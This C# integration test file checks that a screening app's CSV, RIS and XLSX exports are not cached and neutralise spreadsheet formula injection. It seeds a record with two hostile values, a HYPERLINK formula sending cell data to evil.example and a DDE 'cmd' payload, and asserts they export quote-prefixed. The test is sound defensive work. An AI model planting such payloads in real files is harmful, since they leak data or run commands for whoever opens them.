using System.Globalization;
using CsvHelper;
using Microsoft.EntityFrameworkCore;
using Screener.Core.Exports;
using Screener.IntegrationTests.Infrastructure;

namespace Screener.IntegrationTests.Web;

public sealed class WebExportTests(TestDatabase database) : IClassFixture<TestDatabase>, IAsyncLifetime
{
    private const string FormulaTitle = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click for the full text\")";
    private const string FormulaAbstract = "-2+3+cmd|' /C calc'!A0";

    private WebTestApp _web = null!;
    private SeededReviews _seed = null!;

    public async Task InitializeAsync()
    {
        await database.ResetAsync();
        _seed = await ReviewSeed.RunAsync(database);
        await using (var db = database.CreateDbContext())
        {
            var record = await db.Records.SingleAsync(r => r.Id == _seed.RecordsA[1]);
            record.Title = FormulaTitle;
            record.Abstract = FormulaAbstract;
            await db.SaveChangesAsync();
        }
        _web = await WebTestApp.StartAsync(database.ConnectionString);
    }

    public async Task DisposeAsync() => await _web.DisposeAsync();

    [Theory]
    [InlineData("csv")]
    [InlineData("ris")]
    [InlineData("xlsx")]
    public async Task Exports_are_never_cached(string format)
    {
        using var carol = _web.Client(_seed.ApiKeys["carol"]);

        var response = await carol.GetAsync($"/api/reviews/{_seed.ReviewA}/export?format={format}");

        response.EnsureSuccessStatusCode();
        Assert.True(response.Headers.CacheControl?.NoStore, $"Cache-Control: {response.Headers.CacheControl}");
    }

    [Fact]
    public async Task The_api_csv_neutralises_formula_text_and_keeps_numbers_as_numbers()
    {
        using var carol = _web.Client(_seed.ApiKeys["carol"]);

        var csv = await carol.GetStringAsync($"/api/reviews/{_seed.ReviewA}/export?format=csv");

        using var reader = new CsvReader(new StringReader(csv), CultureInfo.InvariantCulture);
        reader.Read();
        reader.ReadHeader();
        var rows = new List<Dictionary<string, string>>();
        while (reader.Read()) rows.Add(reader.HeaderRecord!.ToDictionary(h => h, h => reader.GetField(h)!));
        var hostile = rows.Single(r => r["screener_id"] == _seed.RecordsA[1].ToString(CultureInfo.InvariantCulture));
        Assert.Equal("'" + FormulaTitle, hostile["title"]);
        Assert.Equal("'" + FormulaAbstract, hostile["abstract"]);
        Assert.All(rows.SelectMany(r => r.Values), v => Assert.False(v.Length > 0 && v[0] is '=' or '+' or '@', v));
        Assert.Contains(rows, r => r["llm_include_probability"].Length > 0 && double.TryParse(r["llm_include_probability"], CultureInfo.InvariantCulture, out _));
    }

    [Fact]
    public async Task The_api_xlsx_opens_with_the_library_text_is_never_a_formula_and_formula_text_keeps_its_quote_prefix()
    {
        using var carol = _web.Client(_seed.ApiKeys["carol"]);

        var (rows, formulas) = XlsxReadBack.Read(await carol.GetByteArrayAsync($"/api/reviews/{_seed.ReviewA}/export?format=xlsx"));

        Assert.Equal(0, formulas);
        Assert.Equal(ExportLayout.Header, rows[0].Select(c => c.Value));
        var title = ExportLayout.Header.ToList().IndexOf("title");
        var hostile = rows.Single(r => r[title].Value == FormulaTitle);
        Assert.True(hostile[title].IsText && hostile[title].QuotePrefixed);
        var screenerId = hostile[ExportLayout.Header.ToList().IndexOf("screener_id")];
        Assert.Equal((_seed.RecordsA[1].ToString(CultureInfo.InvariantCulture), false, false), (screenerId.Value, screenerId.IsText, screenerId.QuotePrefixed));
    }

    [Fact]
    public async Task The_web_and_the_cli_export_the_same_file_from_the_same_slice()
    {
        using var carol = _web.Client(_seed.ApiKeys["carol"]);

        var web = await carol.GetStringAsync($"/api/reviews/{_seed.ReviewA}/export?format=csv");
        var cli = await CliHarness.RunAsync(database, "export", "--review", "A", "--format", "csv", "--unique");

        Assert.Equal(0, cli.ExitCode);
        Assert.Equal(web, cli.Out);
        Assert.Equal(string.Join(',', ExportLayout.Header), web[..web.IndexOf('\r', StringComparison.Ordinal)]);
    }
}
